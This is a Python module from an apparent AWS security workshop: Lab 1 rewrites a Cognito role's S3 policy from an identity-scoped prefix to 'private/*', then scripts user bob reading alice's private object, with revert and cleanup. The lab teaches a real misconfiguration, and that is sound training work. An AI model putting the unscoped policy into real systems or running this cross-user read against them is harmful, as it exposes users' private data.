"""Lab 1: the owner-only prefix not scoped by the identity ID.

The signed-in role's owner statement names `private/*` where it must name
`private/${cognito-identity.amazonaws.com:sub}/*`: the policy variable is
what makes one role, shared by every user, give each of them only their own
prefix. Without it bob reads (and overwrites, and deletes) alice's keys.
https://docs.aws.amazon.com/cognito/latest/developerguide/iam-roles.html#access-policies
"""

from __future__ import annotations

from botocore.exceptions import ClientError
from django.conf import settings

from core.deployment import Deployment
from workshop import changes
from workshop.base import AttackResult, Lab, Report
from workshop.outsider import Outsider, refused, victim_cleanup

SID = "OwnerReadsWritesAndDeletesOwnPrefixes"
SCOPED = "private/${cognito-identity.amazonaws.com:sub}/*"
VICTIM, ATTACKER = "alice@example.com", "bob@example.com"
SECRET_NAME = "lab01-private-photo.txt"


def _broken(*, deployment: Deployment) -> dict:
    document = changes.provisioned_access_policy(deployment=deployment, kind="authenticated")
    owner = changes.statement(document, SID)
    owner["Resource"] = [r.replace(SCOPED, "private/*") for r in owner["Resource"]]
    return document


def apply(*, deployment: Deployment, report: Report) -> None:
    changes.access_policy_put(deployment=deployment, kind="authenticated", document=_broken(deployment=deployment), report=report)


def revert(*, deployment: Deployment, report: Report) -> None:
    changes.role_restore(deployment=deployment, kind="authenticated", report=report)


def applied(*, deployment: Deployment) -> bool:
    owner = changes.statement(changes.access_policy_get(deployment=deployment, kind="authenticated"), SID) or {}
    resources = owner.get("Resource", [])
    return f"arn:aws:s3:::{deployment.bucket}/private/*" in ([resources] if isinstance(resources, str) else resources)


def attack(*, outsider: Outsider) -> AttackResult:
    outsider.step(f"Setup, as the victim: {VICTIM} signs in and stores a photo in her private prefix")
    alice = outsider.user_credentials(VICTIM, settings.DEMO_PASSWORD)
    key = f"private/{alice['identityId']}/{SECRET_NAME}"
    outsider.s3(alice).put_object(Bucket=alice["bucket"], Key=key, Body=b"alice's private photo\n", ContentType="text/plain")
    outsider.step(
        f"{ATTACKER} signs in and takes the credentials the app hands his browser; he knows alice's key "
        "(keys are no secret: the public API lists each published photo's private key, URLs show them)"
    )
    try:
        bob = outsider.user_credentials(ATTACKER, settings.DEMO_PASSWORD)
        outsider.step(f"{ATTACKER} (identity {bob['identityId']}) reads s3://{bob['bucket']}/{key}")
        try:
            body = outsider.s3(bob).get_object(Bucket=bob["bucket"], Key=key)["Body"].read()
        except ClientError as exc:
            return refused(exc)
        outsider.got(f"{key} ({len(body)} bytes): {body.decode(errors='replace').strip()!r}")
        return AttackResult(succeeded=True, obtained=(key,))
    finally:
        victim_cleanup(outsider, alice, key)


LAB = Lab(
    number=1,
    slug="01-unscoped-private",
    title="Owner-only prefix not scoped by the identity ID",
    rule="owner-scope",
    apply=apply,
    revert=revert,
    applied=applied,
    attack=attack,
    culprit=(
        f'Statement "{SID}" of the signed-in role\'s s3-access policy allows s3:GetObject (and Put, Delete) on '
        "private/* instead of private/${cognito-identity.amazonaws.com:sub}/*"
    ),
)
